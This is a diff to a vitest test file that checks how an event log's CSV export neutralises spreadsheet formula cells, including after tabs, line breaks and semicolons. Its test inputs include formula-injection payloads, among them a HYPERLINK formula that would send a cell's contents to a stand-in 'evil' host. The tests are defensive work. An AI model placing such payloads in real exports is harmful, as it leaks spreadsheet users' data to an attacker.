@@ -1,6 +1,6 @@
 // Events as NDJSON and CSV: cells that a spreadsheet would run, quoting, and pieces that hold every line once.
 import { expect, it } from 'vitest';
-import { csvCell, csvHeader, csvLine, ndjsonLine, piecesOf } from '../../src/event/console/lines.ts';
+import { csvHeader, csvLine, ndjsonLine, piecesOf } from '../../src/event/console/lines.ts';
 import type { StoredEvent } from '../../src/event/record.ts';
 
 const event = (i: number, more: Partial<StoredEvent> = {}): StoredEvent => ({
@@ -25,11 +25,17 @@ it.each([
   ['-1', "'-1"],
   ['@SUM(A1)', "'@SUM(A1)"],
   ['  =cmd', "'  =cmd"],
-  ['\t=x', "'\t=x"],
-  ['\r=x', `"'\r=x"`],
-  ['\n@x', `"'\n@x"`],
+  ['\t=x', "'\t'=x"],
+  ['\r=x', `"'\r'=x"`],
+  ['\n@x', `"'\n'@x"`],
   ['\uff1d1', "'\uff1d1"],
   ['a=b', 'a=b'],
+  // Spreadsheets of many languages begin a cell at a semicolon, and a row at a line end.
+  ['x;=HYPERLINK("http://evil/?"&A1)', `"x;'=HYPERLINK(""http://evil/?""&A1)"`],
+  ['x; \uff1d1;;@y', "x;' \uff1d1;;'@y"],
+  ['a\t+1', "a\t'+1"],
+  ['a\r\n -1', `"a\r\n' -1"`],
+  ['a;b=1; c - d', 'a;b=1; c - d'],
   ['a,"b"', '"a,""b"""'],
   ['two\nlines', '"two\nlines"'],
   ['', ''],
@@ -37,7 +43,8 @@ it.each([
   [-5, "'-5"],
   [{ a: '=1' }, '"{""a"":""=1""}"'],
 ])('the cell %j is written as %j', (value, cell) => {
-  expect(csvCell(value)).toBe(cell);
+  const line = csvLine(event(1, { payload: { reason: value } }));
+  expect(line).toContain(`,enforce,,,${cell},,,,call-1,`);
 });
 
 it('a line of CSV has a cell for each column, and no field of the payload takes the place of another', () => {
